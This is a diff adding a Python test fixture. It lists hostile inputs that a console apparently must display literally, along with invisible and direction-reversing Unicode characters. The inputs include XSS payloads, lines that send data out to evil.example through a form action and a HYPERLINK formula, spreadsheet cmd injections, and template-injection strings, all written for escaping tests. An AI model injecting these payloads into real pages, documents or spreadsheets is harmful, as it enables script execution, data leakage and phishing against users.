@@ -1,0 +1,53 @@
+"""What somebody may write to make the console do something: all must show as it was written."""
+
+SHOWN = (
+    "<script>alert('script')</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert('img')>",
+    '<img src="https://evil.example/beacon.gif">',
+    "<svg onload=alert('svg')></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert('frame')></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src=https://evil.example/x.swf>",
+    "<body onload=alert('body')>",
+    "<details open ontoggle=alert('toggle')>",
+    "<input autofocus onfocus=alert('focus')>",
+    "<video><source onerror=alert('video')></video>",
+    "<form action=https://evil.example/steal><button>Sign in</button></form>",
+    "<a href=\"javascript:alert('link')\">your results</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>open</a>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>*{display:none!important}</style>",
+    "<p style=\"background:url('https://evil.example/css')\">red</p>",
+    "javascript:alert('plain')",
+    "[results](javascript:alert('markdown'))",
+    "![x](https://evil.example/markdown.gif)",
+    "`${alert('template')}` {{constructor.constructor('alert(1)')()}} <%= 7*7 %> #{7*7}",
+    "&lt;script&gt;alert('entity')&lt;/script&gt; &#x3c;img&#x3e;",
+    "\"><script>alert('attribute')</script>",
+    "'-alert('quote')-'",
+    "</textarea><script>alert('textarea')</script>",
+    "</title></style></script><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1-cmd|'/C calc'!A0",
+    "%3Cscript%3Ealert('percent')%3C/script%3E",
+    "\\u003cscript\\u003ealert('escaped')\\u003c/script\\u003e",
+    "__proto__ constructor toString hasOwnProperty",
+)
+"""One line each, of signs that can be seen."""
+
+UNSEEN = (
+    ("\u202egpj.stluser\u202c", "gpj.stluser"),
+    ("pay\u200bload", "pay"),
+    ("\u2066left\u2069", "left"),
+    ("\x00nul", "nul"),
+    ("\x1b[31mred", "[31mred"),
+)
+"""Signs that cannot be seen or turn others round, and what of each must be readable beside them."""
